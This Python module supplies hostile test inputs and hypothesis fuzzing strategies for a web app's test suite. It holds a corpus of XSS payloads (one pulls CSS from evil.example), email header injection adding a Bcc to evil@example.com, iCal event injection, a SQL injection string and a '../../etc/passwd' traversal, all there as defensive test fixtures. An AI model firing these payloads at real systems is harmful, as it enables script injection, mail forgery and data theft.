"""Hostile input: a fixed corpus of known payloads and hypothesis strategies that generate more.

Every surface test takes its values from here, so one list says what "hostile" means for
the whole project: markup and script, header and iCal injection, control characters,
values past a field's length, every script written in ASEAN, emoji, direction overrides
and lone surrogates. Runs are reproducible: `HOSTILE` derandomizes hypothesis and bounds
the number of generated examples (HOSTILE_EXAMPLES, default 8 per test); the known
payloads run first, as explicit examples.
"""

import os
import unicodedata
from collections.abc import Callable, Sequence

from hypothesis import HealthCheck, example, settings
from hypothesis import strategies as st

ONE_MB = 1_048_576

XSS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    "<a href=javascript&colon;alert(1)>colon</a>",
    '<a href="http://example.com/" onclick="alert(1)">on-attribute</a>',
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<scr<script>ipt>alert(1)</script>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<base href="javascript:/">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "＜script＞alert(1)＜/script＞",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><!--",
    "{{ 7|add:7 }}{% debug %}${7*7}#{7*7}",
    "\\u003c/script\\u003e",
)

HEADER_INJECTION = (
    "x\r\nBcc: evil@example.com",
    "x\nBcc: evil@example.com",
    "x\rBcc: evil@example.com",
    "\r\n\r\n<script>alert(1)</script>",
    "Subject: hi\r\nContent-Type: text/html\r\n\r\n<h1>forged</h1>",
    "%0d%0aBcc:%20evil@example.com",
    "=?utf-8?q?x=0D=0ABcc:_evil@example.com?=",
    "evil@example.com\r\nBcc: evil2@example.com",
)

CONTROL = (
    "a\x00b",
    "\x00",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "vertical\x0btab and form\x0cfeed",
    "\x1b[31mred\x1b[0m",
    "\x1c\x1d\x1e\x1f",
    "delete\x7f",
    "next\x85line",
    "line\u2028separator\u2029paragraph",
    "tab\there",
    "non-characters \ufffe\uffff",
    "plane 16 \U0010ffff",
)

# Only JSON and percent-encoded bytes can carry them; a form encodes them as bytes a
# UTF-8 decoder replaces.
LONE_SURROGATES = ("\ud800", "a\udfffb", "\udbff\udfff")

ONE_MB_PAYLOAD = ("<script>alert(1)</script>" * (ONE_MB // 25 + 1))[:ONE_MB]
HUGE = ("A" * 201, "B" * 301, "ក" * 201, "é" * 121, ONE_MB_PAYLOAD)

# Every script written in the ASEAN states (and Timor-Leste).
ASEAN_SCRIPTS = (
    "កិច្ចប្រជុំរដ្ឋមន្ត្រីការបរទេសអាស៊ានលើកទី៥៥",  # Khmer
    "การประชุมรัฐมนตรีต่างประเทศอาเซียน ครั้งที่ ๕๕",  # Thai
    "ກອງປະຊຸມລັດຖະມົນຕີການຕ່າງປະເທດອາຊຽນ ຄັ້ງທີ ໕໕",  # Lao
    "အာဆီယံနိုင်ငံခြားရေးဝန်ကြီးများ အစည်းအဝေး ၅၅ ကြိမ်မြောက်",  # Burmese
    unicodedata.normalize("NFD", "Hội nghị Bộ trưởng Ngoại giao ASEAN lần thứ 55"),  # decomposed
    "Hội nghị Bộ trưởng Ngoại giao ASEAN lần thứ 55",  # Vietnamese, precomposed
    "A" + "\u0300\u0301\u0302\u0303\u0323" * 20,  # stacked combining marks
    "مشوارت منتري لوار نڬري آسيان ک-٥٥",  # Jawi (Malay in Arabic script)
    "Mesyuarat Menteri-Menteri Luar Negeri ASEAN ke-55",  # Malay
    "Pertemuan Menteri Luar Negeri ASEAN ke-55",  # Indonesian
    "ᜉᜓᜎᜓᜅ᜔ ᜈᜅ᜔ ᜋᜅ ᜋᜒᜈᜒᜐ᜔ᜆ᜔ᜇᜓ",  # Baybayin
    "Pulong ng mga Ministro ng Ugnayang Panlabas",  # Filipino
    "第55届东盟外长会议",  # Chinese (Singapore)
    "ஆசியான் வெளியுறவு அமைச்சர்கள் கூட்டம்",  # Tamil (Singapore)
    "Reuniaun Ministru Negósiu Estranjeiru ASEAN nian",  # Tetum
    "AMM ٥٥ مشوارت 2022 ពិធី",  # mixed directions
)

EMOJI = (
    "🇰🇭🇱🇦🇲🇲🇹🇭🇻🇳🇮🇩🇲🇾🇵🇭🇸🇬🇧🇳🇹🇱",
    "👩🏽‍💼 👨‍👩‍👧‍👦 🏳️‍🌈 🧑🏿‍🤝‍🧑🏻",
    "🤝\ufe0f✍🏾🗓️",
)

BIDI_AND_INVISIBLE = (
    "\u202egnp.exe",
    "\u202dforced\u202c \u202bembedded\u202c",
    "\u2066isolate\u2069\u2067rtl\u2069\u2068first\u2069",
    "\u200f\u200e\u061c",
    "zero\u200bwidth\u200c\u200d\u2060joiners",
    "\ufeffBOM",
    "\u00a0\u3000\u2003",
)

ICAL = (
    "a;b,c\\d:e",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:Injected\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "BEGIN:VEVENT",
    "\nBEGIN:VEVENT\nSUMMARY:Injected\nEND:VEVENT\n",
    "END:VCALENDAR",
    'DESCRIPTION;ALTREP="cid:x":y',
    "\\n\\N\\,\\;",
    "A" * 73 + "ééé",
    "ក" * 40,
)

MISC = (
    "",
    " ",
    "\t\n ",
    "' OR '1'='1' --",
    "%",
    "_%_",
    "\\",
    "%(value)s {0} %s%n",
    "../../etc/passwd",
    "NULL",
    "None",
    "-1",
    "1e309",
    "NaN",
)

KNOWN: tuple[str, ...] = (
    XSS
    + HEADER_INJECTION
    + CONTROL
    + LONE_SURROGATES
    + HUGE
    + ASEAN_SCRIPTS
    + EMOJI
    + BIDI_AND_INVISIBLE
    + ICAL
    + MISC
)
# The payloads short enough to splice into generated text.
SPLICEABLE = tuple(value for value in KNOWN if len(value) <= 400)

# Strings shaped like the values of date, time, code and number fields, for the fields
# that parse their input.
DATES = (
    "0001-01-01",
    "9999-12-31",
    "1966-12-31",
    "2201-01-01",
    "2026-02-30",
    "2026-13-01",
    "2026-11-31",
    "２０２６-１１-２０",
    "٢٠٢٦-١١-٢٠",
    "2026-11-20T09:00",
    "20/11/2026",
    "2026-11-20\x00",
    "2026-11-20\r\nBcc: evil@example.com",
    "-2026-11-20",
    "+002026-11-20",
    "99999999-01-01",
)
TIMES = ("24:00", "23:59:60", "25:61", "09:00\x00", "9", "-1:00", "09:00:00.9999999", "০৯:০০")
NUMBERS = (
    "0",
    "-1",
    "32768",
    "99999999999999999999999",
    "9" * 4301,  # past int()'s own limit on digits
    "1e5",
    "5.5",
    "٥٥",
    "²",  # isdigit() says yes, int() says no
    "¹²",
    "１２",  # fullwidth
    "1_000",
    "0x10",
    " 55 ",
)

# Characters that break naive serialisers, and the ranges of the ASEAN scripts.
SPECIALS = "<>\"'&;:,\\/=`%{}[]()|\r\n\t\x00\x0b\x0c\x1b\x7f\x85\u2028\u2029\u202e\u200b\ufeff"
SCRIPT_RANGES = (
    (0x1780, 0x17FF),  # Khmer
    (0x0E00, 0x0E7F),  # Thai
    (0x0E80, 0x0EFF),  # Lao
    (0x1000, 0x109F),  # Myanmar
    (0x0300, 0x036F),  # combining diacritics (Vietnamese)
    (0x0600, 0x06FF),  # Arabic (Jawi)
    (0x1700, 0x171F),  # Baybayin
    (0x1F300, 0x1FAFF),  # emoji
)

HOSTILE = settings(
    derandomize=True,
    database=None,
    deadline=None,
    # Generated examples per test, after the known payloads; raise it for a deeper local run.
    max_examples=int(os.environ.get("HOSTILE_EXAMPLES", "8")),
    # Each example runs in its own savepoint (tests/hostile/conftest.py), so the
    # function-scoped database fixture is safe to share between examples.
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)


def characters() -> st.SearchStrategy[str]:
    """Any code point (surrogates included), weighted towards the troublesome ones."""
    return st.one_of(
        st.sampled_from(SPECIALS),
        *(st.characters(min_codepoint=low, max_codepoint=high) for low, high in SCRIPT_RANGES),
        st.characters(),
    )


def generated_text(max_size: int = 60) -> st.SearchStrategy[str]:
    return st.text(characters(), max_size=max_size)


def spliced_text() -> st.SearchStrategy[str]:
    """A known payload with generated text on either side."""
    return st.builds(
        lambda before, payload, after: before + payload + after,
        generated_text(12),
        st.sampled_from(SPLICEABLE),
        generated_text(12),
    )


def hostile_text() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(KNOWN), generated_text(), spliced_text())


def fits_one_request(values: dict[str, object]) -> bool:
    """At most one 1 MB value in a request: two pass Django's limit on a body
    (DATA_UPLOAD_MAX_MEMORY_SIZE, 2.5 MB), whose refusal of it whole is tested on its own."""
    return sum(len(value) for value in values.values() if isinstance(value, str)) < 2 * ONE_MB


def hostile_values(fields: Sequence[str]) -> st.SearchStrategy[dict[str, str]]:
    """A hostile value for each of `fields`, drawn independently."""
    return st.fixed_dictionaries({name: hostile_text() for name in fields}).filter(fits_one_request)


def spread(fields: Sequence[str], corpus: Sequence[str] = KNOWN) -> list[dict[str, str]]:
    """The known payloads dealt out over `fields`, a different one in each field of a
    request, so that every payload goes through the surface once and a refusal must
    name exactly the fields at fault."""
    n, width = len(corpus), len(fields)
    return [
        {name: corpus[(start + j) % n] for j, name in enumerate(fields)}
        for start in range(0, n, width)
    ]


def with_examples(
    argument: str | None, values: Sequence[object]
) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Run a hypothesis test on each of `values` (as `argument`, or as keyword arguments
    when `argument` is None) before generating more."""

    def decorate(test: Callable[..., None]) -> Callable[..., None]:
        for value in reversed(values):
            test = example(**({argument: value} if argument else value))(test)
        return test

    return decorate


def shown(value: object, limit: int = 160) -> str:
    """A hypothesis note of an example: reprs, each string cut to `limit` characters."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{k!r}: {shown(v, limit)}" for k, v in value.items()) + "}"
    text = repr(value)
    return text if len(text) <= limit else f"{text[:limit]}… ({len(text)} chars)"
